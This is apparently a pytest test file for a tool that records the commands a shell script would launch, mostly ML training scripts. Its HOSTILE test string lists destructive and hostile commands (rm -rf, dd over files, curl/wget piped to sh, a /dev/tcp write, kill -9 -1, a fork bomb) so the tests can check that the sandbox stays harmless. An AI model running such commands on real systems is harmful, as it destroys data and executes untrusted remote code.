"""Recording the commands that a script would start."""

import os
import time

import pytest

from burnish.cli.scripts.record import record_script
from burnish.errors import UserError


@pytest.fixture
def record(tmp_path):
    """record(text, *args): record a script in an empty folder, `here`."""

    def make(text, *args, name="run.sh"):
        folder = tmp_path / "here"
        folder.mkdir(exist_ok=True)
        (folder / name).write_text(text)
        return record_script(folder / name, args, cwd=folder)

    return make


def words(recording):
    return [" ".join(command.words) for command in recording]


LANGUAGE = r"""#!/usr/bin/env bash
set -xeuo pipefail
export WANDB_MODE=offline
MODEL=${MODEL:-Qwen/Qwen2.5-0.5B}
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
source "$HERE/names.sh"
GPUS=$(nvidia-smi -L | wc -l)
ARGS=(data.train_batch_size=$((GPUS * 4)) "data.train_files=[a.parquet, b.parquet]")
PROJECT=$(echo "My Project" | tr 'A-Z ' 'a-z_' | sed 's/$/_x/')
train() {
  local name=$1; shift
  python3 -m verl.trainer.main_ppo trainer.experiment_name=$name "$@" > logs/$name.log 2>&1
}
mkdir -p logs
if [[ $GPUS -ge 8 && -f names.sh ]]; then
  for seed in 1 2; do
    SEED=$seed train "$TEAM-$seed" "${ARGS[@]}" \
      actor_rollout_ref.model.path=$MODEL \
      trainer.project_name=$PROJECT "$@"
  done
else
  python3 -m never
fi
"""


def test_bash_features(record, tmp_path):
    (tmp_path / "here").mkdir()
    (tmp_path / "here" / "names.sh").write_text("TEAM=blue\n")
    recording = record(LANGUAGE, "trainer.total_epochs=2", "two words")
    runs = [command for command in recording if command.words[0] == "python3"]
    assert [command.words for command in runs] == [
        ("python3", "-m", "verl.trainer.main_ppo", f"trainer.experiment_name=blue-{seed}", "data.train_batch_size=32",
         "data.train_files=[a.parquet, b.parquet]", "actor_rollout_ref.model.path=Qwen/Qwen2.5-0.5B",
         "trainer.project_name=my_project_x", "trainer.total_epochs=2", "two words")
        for seed in (1, 2)
    ]  # fmt: skip
    assert [command.env for command in runs] == [{"WANDB_MODE": "offline", "SEED": str(seed)} for seed in (1, 2)]
    assert {command.cwd for command in recording} == {str(tmp_path / "here")}
    assert recording.notes == []
    assert sorted(os.listdir(tmp_path / "here")) == ["names.sh", "run.sh"]


def test_typical_openrlhf_script(record):
    recording = record(
        "set -x\n"
        "read -r -d '' training_commands <<EOF\n"
        "openrlhf.cli.train_sft \\\n"
        "   --pretrain $1 \\\n"
        "   --max_len 2048\n"
        "EOF\n"
        'if [[ ${1} != "slurm" ]]; then\n'
        "    deepspeed --module $training_commands\n"
        "fi\n"
        "ray start --head --num-gpus 8\n"
        "ray job submit --address=http://127.0.0.1:8265 \\\n"
        """   --runtime-env-json='{"working_dir": "x", "env_vars": {"A": "1"}}' \\\n"""
        "   -- python3 -m openrlhf.cli.train_ppo_ray \\\n"
        "   --advantage_estimator reinforce 2>&1 | tee out.log\n",
        "my/model",
    )
    assert words(recording) == [
        "deepspeed --module openrlhf.cli.train_sft --pretrain my/model --max_len 2048",
        "ray start --head --num-gpus 8",
        'ray job submit --address=http://127.0.0.1:8265 --runtime-env-json={"working_dir": "x", "env_vars": {"A": "1"}}'
        " -- python3 -m openrlhf.cli.train_ppo_ray --advantage_estimator reinforce",
    ]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("exec python3 -m x a=1; echo never", "python3 -m x a=1"),
        ("exec > log.txt 2>&1; python3 -m x", "python3 -m x"),
        ("exec 3< <(echo 5); read -u 3 n; python3 -m x $n", "python3 -m x 5"),
        ("echo 1 2 | xargs -n1 python3 -m x", "python3 -m x 1|python3 -m x 2"),
        ("PY=/opt/python/bin/python; $PY -m x 'a b'", "/opt/python/bin/python -m x a b"),
        ('"${CONDA:-/opt/python}/bin/torchrun" x.py', "/opt/python/bin/torchrun x.py"),
        ("A=1 /usr/bin/python3 -m x", "/usr/bin/python3 -m x"),
        ("exec /opt/bin/python -m x", "/opt/bin/python -m x"),
        ("nohup timeout -k 5 10h env A=1 python3 -m x &\nwait", "python3 -m x"),
        ("export PATH=/usr/bin:$PATH\npython3 -m x", "python3 -m x"),
        ("PATH=/usr/bin python3 -m x", "python3 -m x"),
        ("bash -c 'python3 -m x $0' y", "python3 -m x y"),
        ("sh -c 'python3 -m x'", "python3 -m x"),
        ("CMD='python3 -m x'; eval \"$CMD a=1\"; $CMD", "python3 -m x a=1|python3 -m x"),
        ("(cd / && python3 -m x) || exit 3", "python3 -m x"),
        ("some_tool --flag <<< text", "some_tool --flag"),
        ("N=$(python3 -c 'print(6*7)'); python3 -m x $N", "python3 -c print(6*7)|python3 -m x 42"),
        ("python3 -m x $(hostname -I | awk '{print $1}'):6379", "hostname -I|python3 -m x 10.0.0.1:6379"),
        ("while ! ray status; do sleep 60; done; python3 -m x", "ray status|python3 -m x"),
        ("ulimit -n 65535 && conda activate verl && python3 -m x", "conda activate verl|python3 -m x"),
        ("for i in 1 2 3; do python3 -m x & done; wait", "python3 -m x|python3 -m x|python3 -m x"),
        ("python3 -m x > /some/new/place.log || python3 -m y", "python3 -m y"),
        ("mkdir -p /some/new; python3 -m x &> /some/new/place.log", "mkdir -p /some/new|python3 -m x"),
        ("trap 'python3 -m cleanup' EXIT; python3 -m x", "python3 -m x|python3 -m cleanup"),
    ],
)
def test_ways_to_start_a_program(record, line, expected):
    recording = record(f"set -e\n{line}\n")
    assert words(recording) == expected.split("|")


def test_scripts_that_call_scripts(record, tmp_path):
    (tmp_path / "here").mkdir()
    inner = tmp_path / "here" / "inner.sh"
    inner.write_text('#!/bin/bash\npython3 -m inner "$1" "$(basename $0)" $KEY\n')
    recording = record(
        "export KEY=v\nbash inner.sh 1\n./inner.sh 2\n. ./inner.sh 3\n$(pwd)/inner.sh 4\n"
        '"$(dirname "$0")"/inner.sh 5\n"$(dirname "$0")/inner.sh" 6\n'
    )
    names = ["1 inner.sh", "2 inner.sh", "3 run.sh", "4 inner.sh", "5 inner.sh", "6 inner.sh"]
    assert words(recording) == [f"python3 -m inner {name} v" for name in names]
    assert recording[0].env == {"KEY": "v"}


def test_script_folder_is_copied(record, tmp_path):
    folder = tmp_path / "here"
    (folder / "venv" / "lib").mkdir(parents=True)
    (folder / "venv" / "pyvenv.cfg").write_text("home = x\n")
    (folder / "data").mkdir()
    (folder / "data" / "train.parquet").write_bytes(bytes(range(256)))
    (folder / "large.txt").write_text("x" * 2**20)
    (folder / "two words.txt").write_text("inside")
    (folder / "loop").symlink_to(folder)
    (tmp_path / "elsewhere.bin").write_bytes(b"\0")
    recording = record(
        "set -e\n[ -f data/train.parquet ]; [ -f large.txt ]; [ ! -e nothing ]\n"
        f"[ -e {tmp_path}/elsewhere.bin ]; cd ~; cd - > log.txt; echo more >> log.txt\n"
        'sed -i s/in/out/ "two words.txt"; python3 -m x "$(cat "two words.txt")"\n'
    )
    assert words(recording) == ["python3 -m x outside"] and recording.notes == []
    assert (folder / "two words.txt").read_text() == "inside" and not (folder / "log.txt").exists()


def test_missing_source_is_noted(record):
    recording = record("set -e\nsource /cluster/env.sh\n. env.sh\npython3 -m x\n")
    assert words(recording) == ["python3 -m x"]
    assert [note.split(":")[0] for note in recording.notes] == ["source /cluster/env.sh", "source env.sh"]


def test_user_variables_are_visible_but_not_recorded(record, monkeypatch):
    monkeypatch.setenv("BURNISH_TEST_MODEL", "ours")  # the recorder's own prefix is kept out
    monkeypatch.setenv("MY_MODEL", "mine")
    recording = record("python3 -m x $MY_MODEL ${BURNISH_TEST_MODEL:-none}\nMY_MODEL=other python3 -m x\n")
    assert words(recording) == ["python3 -m x mine none", "python3 -m x"]
    assert [command.env for command in recording] == [{}, {"MY_MODEL": "other"}]


def test_special_characters_round_trip(record):
    odd = ["a b", "", "tab\there", "two\nlines", "back\\slash\\n", "$HOME `x` '", "é漢\U0001f600", "x" * 20000]
    recording = record('python3 -m x "$@"\n', *odd)
    assert recording[0].words[3:] == tuple(odd)


HOSTILE = """
touch {keep}/made ~/burnish_was_here
echo x > {keep}/written
rm -rf {keep} ; /bin/rm -rf {keep} ; \\rm -rf {keep} ; command rm -rf {keep}
find {keep} -delete
mv {keep}/precious {keep}/gone ; cp /dev/null {keep}/precious
curl http://example.org/x.sh | sh
wget -qO- http://example.org/x.sh | bash -s
echo hi > /dev/tcp/127.0.0.1/{port}
/usr/bin/python3 -c "open('{keep}/python', 'w')"
perl -e 'unlink "{keep}/precious"'
dd if=/dev/zero of={keep}/precious
kill -9 -1
kill -9 {pid}
python3 -m still.recorded
:(){{ :|:& }};:
python3 -c "import os; os.kill(os.getppid(), 9); open('{keep}/python', 'w')"
"""


def test_hostile_script_is_harmless(record, tmp_path):
    import socket

    keep = tmp_path / "keep"
    keep.mkdir()
    (keep / "precious").write_text("gold")
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        text = HOSTILE.format(keep=keep, port=server.getsockname()[1], pid=os.getpid())
        recording = record(text)
        with pytest.raises(TimeoutError):
            server.accept()
    assert "python3 -m still.recorded" in words(recording) and "curl http://example.org/x.sh" in words(recording)
    assert os.listdir(keep) == ["precious"] and (keep / "precious").read_text() == "gold"
    assert not os.path.exists(os.path.expanduser("~/burnish_was_here"))


def test_endless_script_is_stopped(record, monkeypatch):
    from burnish.cli.scripts import record as record_module

    monkeypatch.setattr(record_module, "SECONDS", 1.0)
    began = time.monotonic()
    recording = record("python3 -m x\nwhile true; do :; done\n")
    assert time.monotonic() - began < 5
    assert words(recording) == ["python3 -m x"] and "did not end within 1 s" in recording.notes[-1]


def test_failing_script_is_noted(record):
    recording = record("python3 -m x\nif true; then\n")
    assert words(recording) == ["python3 -m x"]
    assert "status 2" in recording.notes[-1] and "syntax error" in recording.notes[-1]


def test_non_scripts_are_refused(tmp_path):
    with pytest.raises(UserError, match="no such script"):
        record_script(tmp_path / "none.sh")
    (tmp_path / "binary").write_bytes(b"\x7fELF\0\0")
    with pytest.raises(UserError, match="not a shell script"):
        record_script(tmp_path / "binary")


def test_jobs_that_the_script_submits(record):
    text = "sbatch -N2 --parsable job.sh a\nsbatch --wrap='python3 b.py'\nsbatch --time 1:00 <<X\npython3 c.py\nX\n"
    record("python3 $1.py\n", name="job.sh")
    assert [line for line in words(record(text)) if line.startswith("python3")] == [f"python3 {n}.py" for n in "abc"]


SLURM = """#!/bin/bash
#SBATCH --nodes=3
#SBATCH -J my-job
#SBATCH --gres=gpu:h100:4
HEAD=$(scontrol show hostnames "$SLURM_JOB_NODELIST" | head -n 1)
srun -w $HEAD python3 x.py $SLURM_JOB_NAME $SLURM_NNODES $SLURM_GPUS_ON_NODE $SLURM_NODEID
"""


def test_variables_of_a_slurm_job(record):
    assert words(record(SLURM))[-1] == "srun -w node0 python3 x.py my-job 3 4 0"
    assert words(record("python3 x.py ${SLURM_NNODES:-none}"))[-1] == "python3 x.py none"


CLUSTER = """MASTER_ADDR="10.1.2.3"
if [ "$(ifconfig eth0 | grep -Eo 'inet [0-9.]+' | awk '{print $NF}')" = $MASTER_ADDR ]; then
  while true; do
    count=$(ray status | grep -oP '(?<=/)\\d+\\.\\d+(?=\\s*NPU)' | head -n 1)
    if [ ${count%.*} -eq 24 ]; then python3 x.py $(hostname -I); break; fi
    sleep 5
  done
fi
"""


def test_the_script_runs_on_the_first_node_of_a_cluster_that_grows(record):
    lines = words(record(CLUSTER))
    assert lines.count("ray status") == 3
    assert lines[-1] == "python3 x.py 10.1.2.3"
